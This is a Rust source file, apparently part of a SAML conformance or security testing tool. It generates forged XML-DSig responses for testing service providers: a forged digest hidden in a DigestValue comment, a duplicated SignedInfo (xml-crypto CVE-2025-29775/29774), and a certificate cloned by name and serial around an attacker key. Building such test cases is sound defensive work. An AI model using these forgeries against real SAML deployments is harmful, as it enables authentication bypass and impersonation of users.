//! Tamper-catalogue entries for XML-DSig parser and key differentials that hit Go and Node SAML
//! stacks (issue 16): a comment inside `DigestValue` and a second `SignedInfo` (xml-crypto
//! CVE-2025-29775 and CVE-2025-29774), and a certificate cloned by name and serial around
//! another key. Each claims the forged identity; none is validly signed by the trusted key over
//! what it says, so a correct SP refuses all three.

use rsa::rand_core::OsRng;
use rsa::{Pkcs1v15Sign, RsaPrivateKey};
use sha2::Digest as _;
use x509_cert::der::asn1::{Any, BitString};
use x509_cert::der::{Decode as _, Encode as _};
use x509_cert::spki::{AlgorithmIdentifierOwned, ObjectIdentifier, SubjectPublicKeyInfoOwned};

use super::{
    assertion_mut, make_assertion_evil, make_spec_evil, shape, AttackContext, AttackError,
};
use crate::keys::{Certificate, SigningKeys};
use crate::sign::sign_response;
use crate::spec::ResponseSpec;
use crate::style::SignMode;
use crate::xml::{self, Element, Node, NS_DSIG};

/// How the forged digest is smuggled past the signature over `SignedInfo`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Smuggle {
    /// `<DigestValue><!--forged-->genuine</DigestValue>`: exclusive c14n drops the comment, so
    /// the SignatureValue still verifies; a reader of the first child node reads the forged
    /// digest (xml-crypto before 6.0.1, CVE-2025-29775).
    DigestValueComment,
    /// The genuine `SignedInfo`, then a copy whose Reference carries the forged digest: one
    /// SignedInfo checked against SignatureValue, the other's digests against the content
    /// (xml-crypto before 6.0.1, CVE-2025-29774).
    SecondSignedInfo,
}

/// Signs `spec` (assertion signed only), makes the assertion claim the forged identity, and
/// smuggles the digest of the forged assertion into its signature as `how` says.
pub(super) fn forged_digest(
    spec: &mut ResponseSpec,
    ctx: &AttackContext<'_>,
    attack: &'static str,
    how: Smuggle,
) -> Result<String, AttackError> {
    spec.sign = SignMode::Assertion;
    let signed =
        sign_response(spec, ctx.trusted).map_err(|source| AttackError::Sign { attack, source })?;
    let mut root = xml::parse(&signed).map_err(|source| AttackError::Rewrite { attack, source })?;
    make_assertion_evil(
        assertion_mut(&mut root, attack)?,
        ctx.uid_attribute,
        ctx.forged_identity(),
    );
    let algorithm = spec.digest_algorithm;
    let md = move |bytes: &[u8]| crate::sign::digest(algorithm, bytes);
    let forged = super::resign::assertion_digest(&root, &md)
        .ok_or_else(|| shape(attack, "cannot digest the forged assertion"))?;
    let signature = assertion_mut(&mut root, attack)?
        .child_mut(NS_DSIG, "Signature")
        .ok_or_else(|| shape(attack, "no assertion signature"))?;
    match how {
        Smuggle::DigestValueComment => {
            let digest =
                digest_value_mut(signature).ok_or_else(|| shape(attack, "no DigestValue"))?;
            let genuine = digest.text();
            digest.children = vec![Node::Comment(forged), Node::Text(genuine)];
        }
        Smuggle::SecondSignedInfo => {
            let at = signature
                .child_index(NS_DSIG, "SignedInfo")
                .ok_or_else(|| shape(attack, "no SignedInfo"))?;
            let Node::Element(mut copy) = signature.children[at].clone() else {
                return Err(shape(attack, "no SignedInfo"));
            };
            digest_value_mut(&mut copy)
                .ok_or_else(|| shape(attack, "no DigestValue"))?
                .set_text(forged);
            signature.children.insert(at + 1, Node::Element(copy));
        }
    }
    Ok(root.to_xml())
}

fn digest_value_mut(parent: &mut Element) -> Option<&mut Element> {
    let signed_info = if parent.is(NS_DSIG, "SignedInfo") {
        parent
    } else {
        parent.child_mut(NS_DSIG, "SignedInfo")?
    };
    signed_info
        .child_mut(NS_DSIG, "Reference")?
        .child_mut(NS_DSIG, "DigestValue")
}

/// `cloned-certificate`: the forged identity signed with the attacker's key, KeyInfo carrying a
/// certificate with the trusted one's subject, issuer, serial number and validity around the
/// attacker's public key. An SP that finds its trusted certificate by name and serial (or by
/// subject alone) and then takes the key from KeyInfo accepts it.
pub(super) fn cloned_certificate(
    spec: &mut ResponseSpec,
    ctx: &AttackContext<'_>,
    attack: &'static str,
) -> Result<String, AttackError> {
    let cloned = clone_certificate(ctx.trusted, ctx.attacker).map_err(|e| AttackError::Shape {
        attack,
        detail: format!("cloning the trusted certificate: {e}"),
    })?;
    make_spec_evil(spec, ctx.uid_attribute, ctx.forged_identity());
    sign_response(spec, &cloned).map_err(|source| AttackError::Sign { attack, source })
}

/// RFC 4055 §5: `sha256WithRSAEncryption`.
const SHA256_WITH_RSA: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.2.840.113549.1.1.11");

/// The attacker's key with a certificate that names what the trusted certificate names
/// (version, serial, subject, issuer, validity) around the attacker's public key, signed by
/// the attacker's key with RSA-SHA256 and without extensions.
fn clone_certificate(trusted: &SigningKeys, attacker: &SigningKeys) -> Result<SigningKeys, String> {
    let key: &RsaPrivateKey = attacker.private_key();
    let original = trusted.certificate().parsed().map_err(|e| e.to_string())?;
    let attacker_cert = attacker.certificate().parsed().map_err(|e| e.to_string())?;
    let algorithm = AlgorithmIdentifierOwned {
        oid: SHA256_WITH_RSA,
        parameters: Some(Any::null()),
    };
    let mut tbs = original.tbs_certificate;
    tbs.signature = algorithm.clone();
    tbs.subject_public_key_info = SubjectPublicKeyInfoOwned::from_der(
        &attacker_cert
            .tbs_certificate
            .subject_public_key_info
            .to_der()
            .map_err(|e| e.to_string())?,
    )
    .map_err(|e| e.to_string())?;
    tbs.issuer_unique_id = None;
    tbs.subject_unique_id = None;
    tbs.extensions = None;
    let hashed = sha2::Sha256::digest(tbs.to_der().map_err(|e| e.to_string())?);
    let signature = key
        .sign_with_rng(&mut OsRng, Pkcs1v15Sign::new::<sha2::Sha256>(), &hashed)
        .map_err(|e| e.to_string())?;
    let cert = x509_cert::Certificate {
        tbs_certificate: tbs,
        signature_algorithm: algorithm,
        signature: BitString::from_bytes(&signature).map_err(|e| e.to_string())?,
    };
    let der = cert.to_der().map_err(|e| e.to_string())?;
    SigningKeys::from_parts(
        key.clone(),
        Certificate::from_der(der).map_err(|e| e.to_string())?,
    )
    .map_err(|e| e.to_string())
}
